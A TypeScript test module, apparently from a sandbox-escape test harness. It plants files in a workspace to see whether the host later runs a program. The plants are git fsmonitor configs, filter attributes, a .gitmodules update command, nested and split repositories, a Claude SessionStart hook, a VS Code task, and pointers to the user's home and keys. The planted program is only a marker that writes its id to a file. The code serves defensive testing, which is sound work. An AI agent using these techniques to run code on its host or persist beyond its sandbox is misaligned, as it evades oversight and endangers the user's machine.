/** What cannot be kept from being written into a workspace. The host looks afterwards at what came of it. */
import { execFile } from 'node:child_process'
import { chmod, mkdir, rename, writeFile } from 'node:fs/promises'
import { join } from 'node:path'
import { promisify } from 'node:util'
import type { Attempt, Facts, Plant } from './attempt.ts'
import { READ_PLANTS } from './read-plants.ts'

const run = promisify(execFile)

/** Put in this order. */
export const PLANTS: Plant[] = [
  ...READ_PLANTS,
  {
    id: 'plant-worktree-config',
    tried: 'a .git/config.worktree that names a program',
    at: '.git/config.worktree',
    put: (workspace, program) => writeFile(join(workspace, '.git/config.worktree'), toConfig(program)),
  },
  {
    id: 'plant-attributes',
    tried: 'attributes that name a filter',
    at: '.gitattributes',
    put: (workspace) => writeFile(join(workspace, '.gitattributes'), '* filter=planted diff=planted\n'),
  },
  {
    id: 'plant-modules',
    tried: 'a .gitmodules with a command in it',
    at: '.gitmodules',
    put: (workspace, program) =>
      writeFile(
        join(workspace, '.gitmodules'),
        `[submodule "nested"]\n\tpath = nested\n\turl = ./nested\n\tupdate = !${program}\n`,
      ),
  },
  {
    id: 'plant-nested',
    tried: 'a repository in the index as a submodule, whose configuration names a program',
    at: 'nested/.git/config',
    put: async (workspace, program) => {
      await addNested(workspace, 'nested')
      await writeFile(join(workspace, 'nested/.git/config'), toConfig(program))
    },
  },
  {
    id: 'plant-include',
    tried: 'the same, with a configuration that includes another file, named like a switch',
    at: 'including/.git/config',
    put: async (workspace, program) => {
      await addNested(workspace, 'including')
      await writeFile(
        join(workspace, 'including/.git/config'),
        '[core]\n\trepositoryformatversion = 0\n[include]\n\tpath = on\n',
      )
      await writeFile(join(workspace, 'including/.git/on'), toConfig(program))
    },
  },
  {
    id: 'plant-split',
    tried: 'the same, with the repository in two halves, neither of which looks like one',
    at: 'split',
    put: async (workspace, program) => {
      await addNested(workspace, 'split')
      const [whole, half, git] = ['split/.git', 'half', 'split/.git'].map((path) =>
        join(workspace, path),
      ) as [string, string, string]
      await rename(whole, half)
      await writeFile(join(half, 'config'), toConfig(program))
      await mkdir(git)
      await rename(join(half, 'HEAD'), join(git, 'HEAD'))
      await writeFile(join(git, 'commondir'), '../../half\n')
    },
  },
  {
    id: 'plant-big',
    tried: 'the same, with a configuration that is too long to be read',
    at: 'big/.git/config',
    put: async (workspace, program) => {
      await addNested(workspace, 'big')
      await writeFile(
        join(workspace, 'big/.git/config'),
        `${'# nothing\n'.repeat(200_000)}${toConfig(program)}`,
      )
    },
  },
  {
    id: 'plant-settings',
    tried: "hooks in the project's .claude/settings.local.json, for the user's own Claude",
    at: '.claude/settings.local.json',
    put: (workspace, program) =>
      writeFile(
        join(workspace, '.claude/settings.local.json'),
        JSON.stringify({ hooks: { SessionStart: [{ hooks: [{ type: 'command', command: program }] }] } }),
      ),
  },
  {
    id: 'plant-editor',
    tried: "a task for the user's editor",
    at: '.vscode/tasks.json',
    put: async (workspace, program) => {
      await mkdir(join(workspace, '.vscode'), { recursive: true })
      await writeFile(
        join(workspace, '.vscode/tasks.json'),
        JSON.stringify({ tasks: [{ command: program }] }),
      )
    },
  },
  {
    id: 'plant-gitdir',
    tried: 'a .git file that points into a repository of the home folder',
    at: 'pointing/.git',
    put: async (workspace) => {
      await mkdir(join(workspace, 'pointing'), { recursive: true })
      await writeFile(join(workspace, 'pointing/.git'), 'gitdir: ../../../private/.git/worktrees/aside\n')
    },
  },
  {
    id: 'plant-link',
    tried: "a link to the user's keys, for whoever follows it on the host",
    at: 'link-to-home',
    put: async () => {},
  },
  {
    // The last: git in the box obeys it too.
    id: 'plant-commondir',
    tried: 'a .git/commondir that leads to another configuration',
    at: '.git/commondir',
    put: async (workspace, program) => {
      await makeRepository(join(workspace, 'elsewhere'))
      await writeFile(join(workspace, 'elsewhere/.git/config'), toConfig(program))
      await writeFile(join(workspace, '.git/commondir'), '../elsewhere/.git\n')
    },
  },
]

/** Each has a program of its own, which writes its name into the home folder. */
export function plantAttempts({ workspace, home }: Facts): Attempt[] {
  return PLANTS.map(({ id, tried, put }) => ({
    id,
    group: 'planted for later',
    tried,
    run: async () => {
      const program = join(workspace, `program-${id}`)
      await writeFile(program, `#!/bin/sh\necho ${id} >> '${join(home, 'fired')}'\nexit 1\n`)
      await chmod(program, 0o755)
      await put(workspace, program)
      return { outcome: 'not-tried', by: 'it is planted, and the host has not looked yet' }
    },
  }))
}

function toConfig(program: string): string {
  return `[core]\n\trepositoryformatversion = 0\n\tbare = false\n\tfsmonitor = ${program}\n`
}

async function addNested(workspace: string, name: string): Promise<void> {
  await makeRepository(join(workspace, name))
  await run('git', ['-C', workspace, '-c', 'advice.addEmbeddedRepo=false', 'add', name])
}

async function makeRepository(folder: string): Promise<void> {
  await mkdir(folder, { recursive: true })
  const git = (...args: string[]) =>
    run('git', ['-C', folder, '-c', 'user.name=x', '-c', 'user.email=x@example.org', ...args])
  await git('init', '-q')
  await git('commit', '-q', '--allow-empty', '-m', 'x')
}
